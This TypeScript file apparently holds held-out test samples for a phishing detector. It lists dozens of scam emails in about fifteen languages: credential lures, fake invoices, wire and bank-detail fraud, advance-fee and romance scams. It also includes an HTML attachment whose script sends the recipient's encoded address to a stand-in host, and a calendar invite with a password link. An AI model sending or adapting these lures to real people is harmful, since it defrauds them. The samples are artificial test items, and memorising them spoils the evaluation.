// Written after the grammars and first measured as they stand, so that the share of them that is found tells of mail unseen.
import type { WrittenMail } from './write-mail.ts'

const calendar = (text: string): string => `BEGIN:VCALENDAR
VERSION:2.0
METHOD:REQUEST
BEGIN:VEVENT
UID:7731@invite.example
DTSTART:20260311T090000Z
SUMMARY:Mandatory security review
DESCRIPTION:${text}
ORGANIZER:mailto:security@invite.example
END:VEVENT
END:VCALENDAR`

export const LATER_ATTACKS: readonly WrittenMail[] = [
  {
    name: 'en: notion page behind a shared note',
    from: 'Grant Ellison <g.ellison@fairhaven-architects.example>',
    subject: 'Grant Ellison has sent you a confidential file',
    body: `A protected file is waiting for you. It will be withdrawn in 5 days.
[OPEN IN NOTION](https://fairhaven.notion.site/Project-Files-1f2e3d4c5b6a)
You may be prompted to authenticate with your work email.`,
  },
  {
    name: 'en: google sites, mailbox migration',
    from: 'Exchange Online <noreply@eo-tenant-ops.example>',
    subject: 'Legacy authentication is being retired for kim@receiver.example',
    body: `Your account still uses legacy authentication, which stops working on Friday. Move to modern sign-in to keep sending mail.
[Move my account](https://sites.google.com/view/tenant-ops-migration)`,
  },
  {
    name: 'en: onedrive link with a person in front',
    from: 'Monica Hale via OneDrive <share@cloud-doc-relay.example>',
    subject: 'Monica Hale shared "Settlement statement.pdf" with you',
    body: `Here's the document that Monica Hale shared with you. This link only works for the recipient of this message.
[Open](https://pub-1c2d3e4f5a6b7c8d.r2.dev/settle.html#kim@receiver.example)`,
  },
  {
    name: 'en: homoglyph sender',
    from: 'Microsoft account team <account@mіcrosoft-mail.example>',
    subject: 'Unusual activity',
    body: 'Something about your recent sign-in looked odd. [Review recent activity](https://review-signin.example/a)',
  },
  {
    name: 'en: tld swap',
    from: 'DHL Express <noreply@dhl.example>',
    subject: 'Shipment on hold: duties outstanding',
    body: 'Your shipment is held at the hub until import duty of GBP 3.20 is settled. [Settle duty](https://dhl.example/pay)',
  },
  {
    name: 'en: mfa fatigue',
    from: 'Okta Verify <alerts@factor-push.example>',
    subject: '4 sign-in requests are waiting for your approval',
    body: `We sent four push requests that were not answered. Approve the next request or re-register your device to avoid being locked out.
[Re-register device](https://factor-push.example/device)`,
  },
  {
    name: 'en: calendar file with a link',
    from: 'Security Office <security@invite.example>',
    subject: 'Mandatory security review',
    body: 'See the invitation.',
    files: [
      {
        name: 'invite.ics',
        type: 'text/calendar',
        content: calendar(
          'Your mailbox will be disabled. Confirm your password before the meeting: https://review-desk.web.app/x',
        ),
      },
    ],
  },
  {
    name: 'en: html attachment that redirects',
    from: 'Payables <remit@cobaltline-freight.example>',
    subject: 'ACH remittance 03/10/2026 for Receiver',
    body: 'Kindly review the attached remittance for the payment made today.',
    files: [
      {
        name: 'Remittance_03102026.htm',
        type: 'text/html',
        content:
          '<html><head><script>var e="kim@receiver.example";document.location="https://cobalt-view.example/?e="+btoa(e)</script></head></html>',
      },
    ],
  },
  {
    name: 'en: bank token for firms',
    from: 'Corporate Banking <corp@treasury-signon.example>',
    subject: 'Soft token synchronisation required',
    body: `The soft token used to approve payments has gone out of sync. Synchronise it before the end of the business day or payment approvals will be suspended.
[Synchronise token](https://treasury-signon.example/sync)`,
  },
  {
    name: 'en: student job, check',
    from: 'Prof. Eleanor Whit <eleanor.whit.dept@gmail.com>',
    subject: 'Research assistant wanted',
    body: `I am looking for a student assistant, 7 hours per week, $350 weekly. You can work remotely. Send your full name, mobile number and alternative email to apply.`,
  },
  {
    name: 'en: law firm copyright',
    from: 'Rights Enforcement <claims@brightline-ip-law.example>',
    subject: 'Notice of infringement - images on your website',
    body: `Your website uses photographs of our client without a licence. Download the evidence and remove them within 48 hours, or we will file a lawsuit.
[Evidence](https://brightline-ip-law.example/evidence/case-2291.zip)`,
  },
  {
    name: 'en: refund from a crypto exchange collapse',
    from: 'Claims Portal <claims@creditor-distribution.example>',
    subject: 'Your creditor distribution is ready to withdraw',
    body: 'Eligible creditors may now withdraw digital assets. Link a wallet to receive your distribution of 1,204.50 USDC. [Withdraw](https://creditor-distribution.example/w)',
  },
  {
    name: 'en: callback, plain, tax software',
    from: 'Order Desk <juliette.harmon77@outlook.com>',
    subject: 'Confirmation 4471-882-01',
    body: `Thank you for choosing TurboShield. $479.00 will be deducted from your checking account today. Questions about this order or a cancellation? Speak to our representatives on 1 (805) 555-0139.`,
  },
  {
    name: 'en: boss wants a wire, own lookalike domain',
    from: 'Helen Marsh <helen.marsh@receiiver.example>',
    subject: 'Wire today',
    body: `Kim, can you set up a wire to a new vendor this morning? It is time sensitive. I will forward the instructions once you confirm.
Helen`,
  },
  {
    name: 'en: parcel locker text style',
    from: 'USPS Tracking <track@address-confirm-hub.example>',
    subject: 'Your package could not be delivered',
    body: 'Your package cannot be delivered owing to an incomplete street number. Please confirm your address in the link within 12 hours: https://address-confirm-hub.example/i',
  },
  {
    name: 'en: streaming gift',
    from: 'Disney+ <hello@plus-loyalty-offers.example>',
    subject: 'We extend your subscription by 12 months for free',
    body: 'As part of our loyalty program you can extend for free. Enter your card for verification. [Extend for free](https://plus-loyalty-offers.example/x)',
  },
  {
    name: 'de: anwaltsrechnung mit archiv',
    from: 'Kanzlei Hartmann <mahnwesen@kanzlei-hartmann-inkasso.example>',
    subject: 'Zahlungsaufforderung Aktenzeichen 44/2026',
    body: `Sie haben die Forderung unserer Mandantin über 312,80 € trotz Erinnerung nicht beglichen. Einzelheiten entnehmen Sie dem Anhang. Bei Nichtzahlung bis 13.03. leiten wir ein gerichtliches Verfahren ein. Passwort: 4402`,
    files: [
      {
        name: 'Forderung.zip',
        type: 'application/zip',
        content: Buffer.from('UEsDBBQACQAIAAAAIVgAAAAAAAAAAAAAAAAHAAAARk9SLmpzAA==', 'base64'),
      },
    ],
  },
  {
    name: 'de: paypal kaeuferschutz',
    from: 'PayPal Kundendienst <hilfe@kaeufer-konflikt.example>',
    subject: 'Ungewöhnliche Zahlung an CoinStore 589,00 EUR',
    body: `Sie haben eine Zahlung über 589,00 EUR autorisiert. Wenn Sie diese Zahlung nicht veranlasst haben, stornieren Sie sie binnen 12 Stunden: [Zahlung stornieren](https://kaeufer-konflikt.example/storno)`,
  },
  {
    name: 'de: telekom rechnung',
    from: 'Telekom <rechnungonline@festnetz-abrechnung-maerz.example>',
    subject: 'Ihre Abbuchung konnte nicht eingelöst werden',
    body: `Der Rechnungsbetrag von 54,95 € wurde von Ihrer Bank zurückgegeben. Damit Ihr Anschluss nicht gesperrt wird, begleichen Sie den Betrag jetzt per Karte.
[Betrag begleichen](https://festnetz-abrechnung-maerz.example/p)`,
  },
  {
    name: 'de: netflix',
    from: 'Netflix <konto@abo-fortsetzen.example>',
    subject: 'Wir haben Probleme mit Ihren Zahlungsangaben',
    body: 'Wir versuchen es erneut, aber aktualisieren Sie bitte Ihre Zahlungsdaten, damit Sie weiterschauen können. [Konto aktualisieren](https://abo-fortsetzen.example/n)',
  },
  {
    name: 'de: liebe',
    from: 'Irina <irina.sonnenschein@gmx.de>',
    to: '',
    subject: 'Hallo',
    body: 'Hallo, wie geht es dir? Ich bin Irina, 32, aus Minsk. Ich möchte gern jemanden finden für ein gemeinsames Leben. Antworte mir, dann erzähle ich mehr und schicke ein Bild.',
  },
  {
    name: 'fr: impots',
    from: 'Direction des Finances Publiques <contact@espace-remboursement-fiscal.example>',
    subject: "Notification d'un trop-versé de 348,20 €",
    body: `Nos services ont constaté un excédent de versement de 348,20 €. Complétez vos informations bancaires afin que la somme vous soit reversée.
[Accéder au formulaire](https://espace-remboursement-fiscal.example/f)`,
  },
  {
    name: 'fr: banque conseiller',
    from: 'Crédit Agricole <alerte@validation-dsp2.example>',
    subject: 'Activation obligatoire de SécuriPass',
    body: `Vous n'avez pas encore activé le nouveau dispositif de sécurité. Faute d'activation, vos opérations en ligne seront bloquées dès demain.
[Activer le dispositif](https://validation-dsp2.example/a)`,
  },
  {
    name: 'fr: changement de rib',
    from: 'Comptabilité Delmas <compta@delmas-menuiserie.example>',
    auth: 'softfail',
    head: 'Reply-To: compta.delmas@mail.com',
    subject: 'Nouveau RIB',
    body: `Bonjour,
Veuillez noter que nos coordonnées bancaires ont changé. Merci de régler la prochaine échéance sur le nouveau compte ci-dessous et de nous transmettre la preuve du virement.
FR76 3000 6000 0112 3456 7890 189`,
  },
  {
    name: 'es: netflix',
    from: 'Netflix <cuenta@continua-viendo.example>',
    subject: 'No pudimos cobrar tu mensualidad',
    body: 'Tu suscripción se pausará si no actualizas tu forma de pago. [Actualizar ahora](https://continua-viendo.example/pago)',
  },
  {
    name: 'es: factura con enlace',
    from: 'Administración <facturas@gestoria-levante-docs.example>',
    subject: 'Factura vencida F-2231',
    body: `Adjuntamos el enlace a la factura vencida. Le rogamos proceda al pago a la mayor brevedad para evitar el corte del servicio.
[Descargar factura](https://gestoria-levante-docs.example/F-2231.zip)`,
  },
  {
    name: 'es: herencia',
    from: 'Abogado Ramírez <despacho.ramirez.notaria@gmail.com>',
    to: '',
    subject: 'Asunto importante',
    body: 'Un cliente que falleció en 2019 dejó 9,8 millones de dólares sin herederos y lleva su mismo apellido. Contácteme para presentarlo como pariente y repartir el dinero.',
  },
  {
    name: 'it: corriere',
    from: 'BRT Corriere <spedizioni@riconsegna-pacco.example>',
    subject: 'Consegna non riuscita',
    body: 'Il corriere non è riuscito a consegnare il pacco perché il civico è assente. Aggiorna indirizzo e versa 1,50 € per la riconsegna: [Riprogramma](https://riconsegna-pacco.example/r)',
  },
  {
    name: 'it: nexi',
    from: 'Nexi <avvisi@carta-protetta-web.example>',
    subject: 'Operazione anomala sulla sua carta',
    body: "È stata rilevata un'operazione di 842,00 € non riconosciuta. Se non è stata eseguita da lei la annulli subito: [Annulla operazione](https://carta-protetta-web.example/no)",
  },
  {
    name: 'nl: belastingdienst',
    from: 'Belastingdienst <invordering@schuld-regeling-online.example>',
    subject: 'Beslaglegging op uw inboedel aangekondigd',
    body: 'Ondanks meerdere herinneringen is uw belastingschuld niet voldaan. Voorkom beslag door vandaag via iDEAL te betalen. [Direct betalen](https://schuld-regeling-online.example/b)',
  },
  {
    name: 'nl: baas',
    from: 'Pieter de Vries <pieter.directie@gmail.com>',
    subject: 'Even snel',
    body: 'Hoi Kim, ik zit in een overleg en kan niet bellen. Kun je voor mij een spoedbetaling klaarzetten? Stuur me even een bericht als je dit leest. Groet, Pieter',
  },
  {
    name: 'pl: allegro',
    from: 'Allegro <pomoc@smart-bezpieczne-zakupy.example>',
    subject: 'Twoje konto zostanie usunięte',
    body: 'Wykryliśmy naruszenie regulaminu. Aby uniknąć usunięcia konta, potwierdź dane karty w ciągu doby: [Potwierdź](https://smart-bezpieczne-zakupy.example/k)',
  },
  {
    name: 'pt: livelo',
    from: 'Livelo <resgate@clube-de-vantagens-ja.example>',
    subject: '92.315 pontos expiram hoje à meia-noite',
    body: 'Seus pontos expiram hoje. Troque por uma air fryer ou por dinheiro na conta. [Resgatar meus pontos](https://clube-de-vantagens-ja.example/r)',
  },
  {
    name: 'pt: correios',
    from: 'Correios <rastreio@importacao-liberar.example>',
    subject: 'Seu objeto foi taxado',
    body: 'Objeto NL223344556BR retido em Curitiba. Pague o despacho postal de R$ 48,60 para liberar a entrega. [Pagar despacho](https://importacao-liberar.example/p)',
  },
  {
    name: 'pt: filho whatsapp',
    from: 'Lucas <lucas.novocontato@outlook.com>',
    subject: 'Salva esse número',
    body: 'Mãe, meu celular caiu na piscina, salva esse número novo. Consegue fazer um pix de 870 pra mim? Te devolvo amanhã.',
  },
  {
    name: 'ja: bank',
    from: '三井住友銀行 <info@smbc-kakunin-web.example>',
    subject: '【緊急】お客様の口座の取引を制限しました',
    body: `不正な取引の可能性があるため、口座の取引を一時的に制限しております。下記よりお客様情報をご確認のうえ、制限を解除してください。
[制限を解除する](https://smbc-kakunin-web.example/d)`,
  },
  {
    name: 'ja: apple',
    from: 'Apple <support@appleid-joho-kakunin.example>',
    subject: 'お支払い情報に問題があります',
    body: 'Apple IDのお支払い方法が無効になっています。48時間以内に更新されない場合、アカウントはロックされます。[お支払い情報を更新](https://appleid-joho-kakunin.example/u)',
  },
  {
    name: 'zh: express',
    from: '顺丰速运 <kefu@sf-paijian-tongzhi.example>',
    subject: '您的包裹派送失败',
    body: '您的包裹因地址不详无法派送，请在24小时内点击链接补充地址并支付3元派送费：[补充地址](https://sf-paijian-tongzhi.example/a)',
  },
  {
    name: 'ru: sber',
    from: 'Сбербанк <bonus@spasibo-vyplata.example>',
    subject: 'Вам начислено 12 500 бонусов, сгорают сегодня',
    body: 'Успейте обменять бонусы на рубли до полуночи. Для зачисления введите данные карты: [Обменять](https://spasibo-vyplata.example/o)',
  },
  {
    name: 'uk: nova poshta',
    from: 'Нова пошта <info@dostavka-oplata-ua.example>',
    subject: 'Посилка чекає на оплату',
    body: 'Вашу посилку затримано. Сплатіть доставку 45 грн протягом доби, інакше її буде повернено: [Сплатити](https://dostavka-oplata-ua.example/p)',
  },
  {
    name: 'tr: vergi',
    from: 'Gelir İdaresi Başkanlığı <bildirim@vergi-borcu-sorgu.example>',
    subject: 'Vergi borcunuz nedeniyle haciz işlemi',
    body: 'Ödenmemiş vergi borcunuz nedeniyle haciz işlemi başlatılacaktır. Borcunuzu hemen ödemek için: [Borç öde](https://vergi-borcu-sorgu.example/o)',
  },
  {
    name: 'ar: salik',
    from: 'سالك <notice@salik-raseed.example>',
    subject: 'لديك مخالفة غير مدفوعة',
    body: 'عزيزنا العميل، لديك رسوم بوابة غير مدفوعة بقيمة 4 دراهم. يرجى السداد اليوم لتجنب غرامة 200 درهم: [سداد](https://salik-raseed.example/p)',
  },
  {
    name: 'ar: advance fee',
    from: 'السيدة مريم <mariam.trust.fund@gmail.com>',
    to: '',
    subject: 'رسالة عاجلة',
    body: 'أنا أرملة مريضة بالسرطان ورثت عن زوجي الراحل 5 ملايين دولار وأود التبرع بها للأعمال الخيرية عن طريقك. الرجاء الرد علي.',
  },
  {
    name: 'cs: banka',
    from: 'Česká spořitelna <info@overeni-george-klic.example>',
    subject: 'Platnost vašeho George klíče končí',
    body: 'Platnost bezpečnostního klíče končí dnes. Ověřte své údaje, jinak bude přístup zablokován: [Ověřit](https://overeni-george-klic.example/o)',
  },
  {
    name: 'sv: postnord',
    from: 'PostNord <paket@avgift-leverans.example>',
    subject: 'Ditt paket väntar på betalning',
    body: 'Ditt paket kunde inte levereras eftersom tullavgiften 19 kr saknas. Betala inom 48 timmar: [Betala](https://avgift-leverans.example/p)',
  },
]
